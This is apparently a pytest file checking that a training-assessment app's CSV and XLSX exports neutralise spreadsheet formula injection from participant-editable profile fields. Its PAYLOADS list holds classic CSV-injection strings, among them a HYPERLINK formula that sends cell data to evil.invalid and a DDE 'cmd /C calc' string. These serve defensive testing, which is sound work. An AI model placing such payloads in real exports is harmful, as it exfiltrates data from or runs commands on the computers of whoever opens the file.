"""Every export path neutralises participant-controlled text that a spreadsheet would run as a formula.

Names, ministry and province come from Moodle profiles, which participants can edit. The classic payloads of
OWASP's "CSV Injection" are stored as such values and every CSV/XLSX writer (the service used by the CLI and
the API, the API endpoint itself) must write them so that no cell is a formula.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from lipassess.reports.cells import spreadsheet_frame, spreadsheet_text
from lipassess.services.exports import export
from tests.factories import bundled_versions, make_cohort, make_participant, make_wave, submit
from tests.services.test_exports import ITEMS

pytestmark = pytest.mark.postgres

PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def test_the_helper_prefixes_payloads_and_leaves_plain_numbers() -> None:
    for payload in PAYLOADS:
        assert spreadsheet_text(payload) == "'" + payload
    for number in ("-2", "+3.5", "-0.25", "1e-3", "Kampot", "ក្រសួងសុខាភិបាល"):
        assert spreadsheet_text(number) == number


def test_a_frame_keeps_numbers_and_leaves_the_callers_frame_alone() -> None:
    import pandas as pd

    frame = pd.DataFrame({"ministry": ["=1+1", "Health"], "score": [-1.5, 2.0]})
    safe = spreadsheet_frame(frame)
    assert safe["ministry"].tolist() == ["'=1+1", "Health"] and safe["score"].tolist() == [-1.5, 2.0]
    assert frame["ministry"].tolist() == ["=1+1", "Health"]


@pytest.fixture
def hostile(session):
    versions = bundled_versions(session)
    behaviour = versions["lip-leadership-behaviour"]
    cohort = make_cohort(session, 9, "LIP-C9")
    pre = make_wave(session, cohort, "pre", [behaviour])
    for k, payload in enumerate(PAYLOADS):
        person = make_participant(session, 900 + k, cohort, firstname=payload, lastname=payload,
                                  email=f"p{k}@example.gov.kh", ministry=payload, province=payload)
        submit(session, person, pre, {behaviour: dict.fromkeys(ITEMS, 3)})
    session.commit()
    return cohort


def _csv_cells(text: str) -> list[str]:
    """The cells as a spreadsheet reads them: a lone CR or LF outside quotes would end the row there."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_no_formula_cell(cells: list[str]) -> None:
    live = [c for c in cells if c.startswith(DANGEROUS) and not _is_number(c)]
    assert live == [], f"cells a spreadsheet would run: {live[:3]}"
    for payload in PAYLOADS:
        # openpyxl reads a carriage return inside a cell back as a line feed.
        assert {"'" + payload, "'" + payload.replace("\r", "\n")} & set(cells), f"{payload!r} is missing or changed"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("fmt", ["long_csv", "wide_csv"])
def test_csv_exports_write_payloads_as_text(session, hostile, tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"{fmt}.csv"
    export(session, [hostile], fmt, path, include_identities=True, actor="eva")
    _assert_no_formula_cell(_csv_cells(path.read_bytes().decode("utf-8")))


def test_xlsx_export_stores_payloads_as_text_cells(session, hostile, tmp_path: Path) -> None:
    path = tmp_path / "c9.xlsx"
    export(session, [hostile], "xlsx", path, include_identities=True, actor="eva")
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "formula cells in the workbook"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    _assert_no_formula_cell(texts)


@pytest.mark.parametrize("fmt", ["long_csv", "wide_csv", "xlsx"])
def test_the_api_export_is_neutralised_too(app, session, hostile, fmt: str) -> None:
    from lipassess.services import staff as staff_service
    from tests.web.staff_world import sign_in

    staff_service.add_staff_user(session, username="ana", role="admin", password="ana-password-123")
    session.commit()
    client = app.test_client()
    assert sign_in(client, "ana").status_code == 302
    response = client.get(f"/api/v1/cohorts/{hostile.id}/exports/{fmt}?with_identities=1")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(response.data))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not any(c.data_type == "f" for c in cells)
        _assert_no_formula_cell([c.value for c in cells if isinstance(c.value, str)])
    else:
        _assert_no_formula_cell(_csv_cells(response.get_data(as_text=True).lstrip("\ufeff")))
